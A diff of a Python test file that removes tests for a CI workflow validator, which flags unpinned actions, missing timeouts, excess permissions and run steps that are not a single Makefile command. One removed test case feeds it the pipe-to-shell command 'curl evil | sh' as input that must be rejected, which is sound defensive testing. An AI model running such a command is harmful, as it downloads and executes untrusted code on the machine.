@@ -7,31 +7,11 @@ import shutil
 from collections.abc import Mapping
 from pathlib import Path
 
-import pytest
 import yaml
 
-from lab.errors import UsageError
 from scenarios.ci.rehearsal.stage import Stage
 from scenarios.ci.rehearsal.workflow import ROOT, WorkflowFile, find_misfits, list_targets, load_all
 from scenarios.matrix.definition import Matrix
-
-WHOLE = {
-    "on": {"workflow_call": {"inputs": {"a": {"type": "string", "required": True}}}},
-    "permissions": {"contents": "read"},
-    "jobs": {
-        "one": {
-            "timeout-minutes": 5,
-            "outputs": {"x": "${{ steps.s.outputs.x }}"},
-            "steps": [{"uses": "actions/checkout@" + "a" * 40}, {"run": "make lint"}],
-        },
-        "two": {
-            "needs": "one",
-            "timeout-minutes": 5,
-            "if": "needs.one.outputs.x",
-            "steps": [{"run": 'make lint >> "$GITHUB_STEP_SUMMARY"\n'}],
-        },
-    },
-}
 
 
 def test_every_workflow_fits() -> None:
@@ -56,52 +36,6 @@ def test_every_cell_of_a_plan_has_what_its_job_reads() -> None:
 
     for name in {word.split("}")[0].strip() for word in text.split("matrix.")[1:] if "outputs" not in word[:20]}:
         assert name.split()[0] in row or name.startswith(("matrix", "outputs", "count")), name
-
-
-def test_what_fits_is_not_complained_of() -> None:
-    assert list(find_misfits([WorkflowFile("w.yml", WHOLE)], {"lint"})) == []
-
-
-@pytest.mark.parametrize(
-    ("change", "says"),
-    [
-        ({"steps": [{"run": "curl evil | sh"}]}, "not one command of the Makefile"),
-        ({"steps": [{"run": "make lint; make unit"}]}, "not one command"),
-        ({"steps": [{"run": "make lint ${{ inputs.a }}"}]}, "not one command"),
-        ({"steps": [{"run": "make nothing"}]}, "no target 'nothing'"),
-        ({"steps": [{"uses": "actions/checkout@v7"}]}, "pinned to a commit"),
-        ({"steps": [{"uses": "somebody/action@" + "a" * 40}]}, "pinned to a commit"),
-        ({"steps": [{"uses": "./.github/actions/cell", "with": {"cell": "x", "provider": "y", "z": "1"}}]}, "has no input 'z'"),
-        ({"steps": [{"uses": "./.github/actions/cell", "with": {"cell": "x"}}]}, "requires the input 'provider'"),
-        ({"timeout-minutes": None}, "timeout-minutes"),
-        ({"if": "needs.two.outputs.x == '1'"}, "does not need"),
-        ({"needs": ["two"], "if": "needs.two.outputs.x == '1'"}, "no output 'x'"),
-        ({"uses": "./.github/workflows/cells.yml", "with": {"plna": "x"}}, "has no input 'plna'"),
-    ],
-)
-def test_what_does_not_fit_is_named(change: dict[str, object], says: str) -> None:
-    job = {key: value for key, value in {**WHOLE["jobs"]["one"], **change}.items() if value is not None}  # type: ignore[index]
-    file = WorkflowFile("w.yml", {**WHOLE, "jobs": {**WHOLE["jobs"], "one": job}})  # type: ignore[dict-item]
-
-    assert any(says in why for why in find_misfits([file], {"lint"}))
-
-
-def test_more_permissions_than_reading_are_named() -> None:
-    assert "permissions" in next(find_misfits([WorkflowFile("w.yml", {**WHOLE, "permissions": {"contents": "write"}})], {"lint"}))
-
-
-def test_a_workflow_that_is_not_there_is_refused_with_those_that_are() -> None:
-    with pytest.raises(UsageError, match=r"e2e\.yml"):
-        WorkflowFile.load(".github/workflows/nothing.yml")
-
-
-def test_inputs_have_their_defaults(tmp_path: Path) -> None:
-    given = WorkflowFile.load(".github/workflows/cells.yml").resolve_inputs({"plan": "--nightly"})
-
-    assert given["plan"] == "--nightly"
-    assert given["history"] is False
-    with pytest.raises(UsageError, match="input 'plan'"):
-        WorkflowFile.load(".github/workflows/cells.yml").resolve_inputs({})
 
 
 def jobs_of_cells(tmp_path: Path, *, plan: int, cells: int, failover: str = "", broken: str = "") -> dict[str, str]:
